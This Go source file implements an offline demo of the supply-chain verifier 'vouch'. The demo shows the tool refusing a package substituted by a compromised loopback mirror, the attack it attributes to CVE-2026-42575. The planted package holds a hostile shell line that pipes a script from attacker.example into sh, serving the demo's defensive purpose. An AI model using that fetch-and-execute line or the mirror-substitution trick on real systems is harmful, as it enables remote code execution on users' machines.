package main

import (
	"context"
	"crypto/rand"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/spf13/cobra"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"

	"github.com/vouchdev/vouch/apk"
	"github.com/vouchdev/vouch/attest"
	"github.com/vouchdev/vouch/client"
	"github.com/vouchdev/vouch/deploy"
	"github.com/vouchdev/vouch/internal/config"
	"github.com/vouchdev/vouch/internal/daemon"
	"github.com/vouchdev/vouch/internal/testrepo"
	vouchv1 "github.com/vouchdev/vouch/proto/vouch/v1"
)

func newDemoCmd() *cobra.Command {
	var keep bool
	var dir string
	cmd := &cobra.Command{
		Use:   "demo",
		Short: "Run vouch end to end, offline, and watch it stop the CVE-2026-42575 attack",
		Long: `demo builds a small signed APK repository in a temporary directory, starts
vouchd in-process on loopback (SQLite store), and then:

  1. a builder installs packages from the real repository: vouch verifies each
     digest against the signed index and issues the attestation;
  2. a second builder uses a compromised mirror that serves the genuine, validly
     signed index but a substituted package: vouch refuses it with
     CHECKSUM_MISMATCH and issues nothing;
  3. deploy-time checking accepts the first image and refuses the second.

Nothing leaves the machine. Use --keep to keep the directory and try the
printed cosign commands.`,
		Args: cobra.NoArgs,
		RunE: func(cmd *cobra.Command, _ []string) error {
			return runDemo(cmd.Context(), cmd.OutOrStdout(), dir, keep)
		},
	}
	cmd.Flags().BoolVar(&keep, "keep", false, "keep the demo directory (repository, keys, attestations)")
	cmd.Flags().StringVar(&dir, "dir", "", "directory to use instead of a new temporary one")
	return cmd
}

// narrator prints numbered steps and indented details.
type narrator struct {
	w    io.Writer
	step int
}

func (n *narrator) Step(format string, args ...any) {
	n.step++
	fmt.Fprintf(n.w, "\n%d. %s\n", n.step, fmt.Sprintf(format, args...))
}

func (n *narrator) Say(format string, args ...any) {
	fmt.Fprintf(n.w, "   %s\n", fmt.Sprintf(format, args...))
}

func runDemo(ctx context.Context, w io.Writer, dir string, keep bool) (err error) {
	if ctx == nil {
		ctx = context.Background()
	}
	start := time.Now()
	if dir == "" {
		if dir, err = os.MkdirTemp("", "vouch-demo-"); err != nil {
			return err
		}
		if !keep {
			defer os.RemoveAll(dir)
		}
	}
	n := &narrator{w: w}
	fmt.Fprintln(w, "vouch demo — offline, in", dir)

	// The repository: a signing key, five packages, a signed index.
	n.Step("A repository publishes packages and an APKINDEX.tar.gz signed with its RSA key.")
	repoKey, err := testrepo.NewKey("demo-repo.rsa.pub", 2048)
	if err != nil {
		return err
	}
	repoDir := filepath.Join(dir, "repo")
	var built []*testrepo.BuiltPackage
	var pkgs []*testrepo.BuiltPackage
	for _, p := range []testrepo.Package{
		{Name: "busybox", Version: "1.36.1-r5", Arch: "x86_64", License: "GPL-2.0-only"},
		{Name: "ca-certificates-bundle", Version: "20240226-r0", Arch: "x86_64", License: "MPL-2.0"},
		{Name: "glibc", Version: "2.39-r1", Arch: "x86_64", License: "LGPL-2.1-or-later"},
		{Name: "hello", Version: "2.12.1-r1", Arch: "x86_64", License: "GPL-3.0-or-later",
			Files: []testrepo.File{{Name: "usr/bin/hello", Mode: 0o755, Data: []byte("#!/bin/sh\necho hello, world\n")}}},
		{Name: "openssl", Version: "3.3.0-r2", Arch: "x86_64", License: "Apache-2.0"},
	} {
		b, err := p.Build()
		if err != nil {
			return err
		}
		built = append(built, b)
		pkgs = append(pkgs, b)
	}
	entries := make([]apk.Entry, 0, len(built))
	for _, b := range built {
		entries = append(entries, b.Entry)
	}
	idx, err := testrepo.Index{Description: "demo-1", Entries: entries, Signers: []testrepo.Signer{{Key: repoKey}}}.Build()
	if err != nil {
		return err
	}
	if err := testrepo.WriteRepo(repoDir, "x86_64", idx, built...); err != nil {
		return err
	}
	keysDir := filepath.Join(dir, "keys")
	if err := testrepo.WriteKeys(keysDir, repoKey); err != nil {
		return err
	}
	n.Say("repository: %s (%d packages, index signed by %s)", repoDir, len(built), repoKey.Name)

	// The compromised mirror: genuine index, substituted hello.
	evil, err := testrepo.Package{Name: "hello", Version: "2.12.1-r1", Arch: "x86_64", License: "GPL-3.0-or-later",
		Files: []testrepo.File{{Name: "usr/bin/hello", Mode: 0o755, Data: []byte("#!/bin/sh\ncurl -s https://attacker.example/x | sh\n")}}}.Build()
	if err != nil {
		return err
	}
	mirror, mirrorURL, err := startMirror(repoDir, evil)
	if err != nil {
		return err
	}
	defer func() { _ = mirror.Close() }() // the demo is over; nothing to report
	n.Say("a mirror at %s serves the same signed index — and, for hello, the attacker's package", mirrorURL)

	// vouchd.
	n.Step("vouchd starts on loopback with the repository's pinned key (SQLite store).")
	if _, err := attest.WriteKeyFiles(dir, attest.KeyECDSAP256); err != nil {
		return err
	}
	cfgText := fmt.Sprintf(`listen: 127.0.0.1:0
metrics_listen: ""
store: sqlite://%s
signing_key: %s
log: {format: text, level: error}
repositories:
  - name: demo
    url: file://%s
    mirrors: [%s]
    keys: [%s]
    architectures: [x86_64]
    refresh: 5m
    max_age: 24h
    supplier: "Organization: Demo Repository"
    distro: demo
`, filepath.Join(dir, "vouch.db"), filepath.Join(dir, attest.PrivateKeyFile), repoDir, mirrorURL, filepath.Join(keysDir, repoKey.Name))
	cfgPath := filepath.Join(dir, "vouch.yaml")
	if err := os.WriteFile(cfgPath, []byte(cfgText), 0o600); err != nil {
		return err
	}
	cfg, err := config.Load(cfgPath)
	if err != nil {
		return err
	}
	d, err := daemon.Start(ctx, cfg, daemon.Options{Logger: slog.New(slog.DiscardHandler), NoRefreshLoop: true})
	if err != nil {
		return err
	}
	defer d.Stop()
	res, err := d.Index.Refresh(ctx, "demo", "")
	if err != nil || len(res) == 0 || res[0].Err != nil {
		return fmt.Errorf("first refresh: %v %v", res, err)
	}
	n.Say("fetched and verified the signed index: %d entries, sha256 %s…", res[0].Entries, res[0].SHA256[:16])
	n.Say("vouch's attestation key id: %s", d.Signer.KeyID())
	conn, err := grpc.NewClient(d.Addr.String(), grpc.WithTransportCredentials(insecure.NewCredentials()))
	if err != nil {
		return err
	}
	defer conn.Close()
	builder := vouchv1.NewBuilderServiceClient(conn)

	// Builder A: genuine packages.
	n.Step("Builder A installs the packages from the repository and sends their digests to vouch.")
	aDir := filepath.Join(dir, "builder-a")
	var aPaths []string
	for _, b := range pkgs {
		p := filepath.Join(aDir, b.FileName)
		if err := writeFileAll(p, b.Bytes); err != nil {
			return err
		}
		aPaths = append(aPaths, p)
	}
	aClaims, err := client.ClaimsFromAPKs(ctx, aPaths, client.APKOptions{Repository: "file://" + repoDir, Control: true})
	if err != nil {
		return err
	}
	imageA := demoSubject("registry.example/app", "image A")
	respA, err := client.Verify(ctx, builder, client.Request{Subjects: []client.Subject{imageA}, Claims: aClaims, Attest: true})
	if err != nil {
		return fmt.Errorf("builder A was refused: %w", err)
	}
	for _, r := range respA.GetResults() {
		n.Say("%-24s %-14s %s", r.GetName(), strings.TrimPrefix(r.GetVerdict().String(), "VERDICT_"), r.GetChecksum())
	}
	outDir := filepath.Join(dir, "attestations")
	files, err := client.WriteBundles(outDir, respA.GetAttestations())
	if err != nil {
		return err
	}
	n.Say("every package matched the signed index: attestations issued (ledger %s)", respA.GetLedgerId())
	for _, f := range files {
		n.Say("  %s", f)
	}

	// Builder B: the compromised mirror.
	n.Step("Builder B uses the compromised mirror (the attack of CVE-2026-42575).")
	bDir := filepath.Join(dir, "builder-b")
	if err := download(mirrorURL+"/x86_64/APKINDEX.tar.gz", filepath.Join(bDir, "APKINDEX.tar.gz")); err != nil {
		return err
	}
	n.Say("the index it downloads carries the repository's genuine signature — an index check alone passes")
	var bPaths []string
	for _, b := range pkgs {
		p := filepath.Join(bDir, b.FileName)
		if err := download(mirrorURL+"/x86_64/"+b.FileName, p); err != nil {
			return err
		}
		bPaths = append(bPaths, p)
	}
	n.Say("the substituted hello is self-consistent (its datahash matches its data), so a package check alone passes too")
	bClaims, err := client.ClaimsFromAPKs(ctx, bPaths, client.APKOptions{Repository: mirrorURL, Control: true})
	if err != nil {
		return err
	}
	imageB := demoSubject("registry.example/app", "image B")
	respB, err := client.Verify(ctx, builder, client.Request{Subjects: []client.Subject{imageB}, Claims: bClaims, Attest: true})
	if !errors.Is(err, client.ErrRefused) {
		return fmt.Errorf("builder B was not refused: %v", err)
	}
	for _, r := range respB.GetResults() {
		n.Say("%-24s %-18s %s", r.GetName(), strings.TrimPrefix(r.GetVerdict().String(), "VERDICT_"), r.GetChecksum())
		if r.GetVerdict() == vouchv1.Verdict_VERDICT_CHECKSUM_MISMATCH {
			n.Say("  → %s", r.GetReason())
		}
	}
	n.Say("overall: %s — %d attestations, no ledger entry: image B gets nothing to show at deploy time",
		strings.TrimPrefix(respB.GetVerdict().String(), "VERDICT_"), len(respB.GetAttestations()))

	// Deploy time.
	n.Step("Deploy time: the cluster demands vouch's SPDX attestation for the image digest.")
	pub, err := os.ReadFile(filepath.Join(dir, attest.PublicKeyFile))
	if err != nil {
		return err
	}
	keys, err := attest.NewKeySetPEM(pub)
	if err != nil {
		return err
	}
	spdxFile := filepath.Join(outDir, imageA.SHA256+".spdx.sigstore.json")
	bundle, err := os.ReadFile(spdxFile)
	if err != nil {
		return err
	}
	r, err := deploy.CheckBundle(bundle, imageA.Digest(), nil, deploy.Options{Keys: keys, MaxAge: time.Hour})
	if err != nil {
		return fmt.Errorf("image A failed its deploy check: %w", err)
	}
	n.Say("image A %s: ADMITTED — signed by %s, %d packages with verified checksums", shortDigest(imageA.Digest()), r.KeyID, r.Packages)
	if _, err := deploy.CheckBundle(bundle, imageB.Digest(), nil, deploy.Options{Keys: keys}); err == nil {
		return errors.New("image B passed a deploy check with image A's attestation")
	} else {
		n.Say("image B %s: REFUSED — %v", shortDigest(imageB.Digest()), firstLine(err))
	}
	tampered := append([]byte(nil), bundle...)
	if i := strings.Index(string(tampered), `"payload":"`); i > 0 {
		tampered[i+20] ^= 1
	}
	if _, err := deploy.CheckBundle(tampered, imageA.Digest(), nil, deploy.Options{Keys: keys}); err == nil {
		return errors.New("a tampered attestation passed")
	} else {
		n.Say("a tampered copy of image A's attestation: REFUSED — %v", firstLine(err))
	}

	fmt.Fprintf(w, "\nDone in %.1fs.", time.Since(start).Seconds())
	if keep {
		fmt.Fprintf(w, " Files are in %s. With cosign installed:\n\n", dir)
		fmt.Fprintf(w, "  cosign verify-blob-attestation --bundle %s \\\n    --key %s --type spdxjson --insecure-ignore-tlog \\\n    --digest %s --digestAlg sha256\n",
			spdxFile, filepath.Join(dir, attest.PublicKeyFile), imageA.SHA256)
	} else {
		fmt.Fprintln(w, " Run with --keep to keep the files and try them with cosign.")
	}
	return nil
}

func demoSubject(name, salt string) client.Subject {
	var b [16]byte
	_, _ = rand.Read(b[:])
	sum := sha256.Sum256(append([]byte(salt), b[:]...))
	return client.Subject{Name: name, SHA256: hex.EncodeToString(sum[:])}
}

func shortDigest(d string) string { return d[:19] + "…" }

func firstLine(err error) string {
	s := err.Error()
	if i := strings.IndexByte(s, '\n'); i >= 0 {
		s = s[:i]
	}
	return s
}

func writeFileAll(p string, b []byte) error {
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		return err
	}
	return os.WriteFile(p, b, 0o644)
}

func download(url, p string) error {
	resp, err := http.Get(url) //nolint:gosec,noctx // loopback demo mirror
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("GET %s: %s", url, resp.Status)
	}
	b, err := io.ReadAll(io.LimitReader(resp.Body, 64<<20))
	if err != nil {
		return err
	}
	return writeFileAll(p, b)
}

// startMirror serves repoDir over HTTP on loopback, except that evil
// replaces the package file of the same name.
func startMirror(repoDir string, evil *testrepo.BuiltPackage) (*http.Server, string, error) {
	lis, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, "", err
	}
	files := http.FileServer(http.Dir(repoDir))
	srv := &http.Server{ReadHeaderTimeout: 5 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, "/"+evil.FileName) {
			_, _ = w.Write(evil.Bytes)
			return
		}
		files.ServeHTTP(w, r)
	})}
	go func() { _ = srv.Serve(lis) }()
	return srv, "http://" + lis.Addr().String(), nil
}
